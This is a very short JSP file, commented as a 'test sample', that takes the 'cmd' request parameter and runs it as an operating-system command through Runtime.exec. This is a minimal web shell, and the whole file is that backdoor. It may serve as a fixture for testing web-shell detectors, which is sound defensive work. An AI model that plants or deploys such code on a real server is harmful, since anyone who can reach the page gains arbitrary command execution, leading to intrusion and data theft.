<%@ page import="java.io.*" %>
<%
  // test sample
  String c = request.getParameter("cmd");
  Process p = Runtime.getRuntime().exec(c);
%>
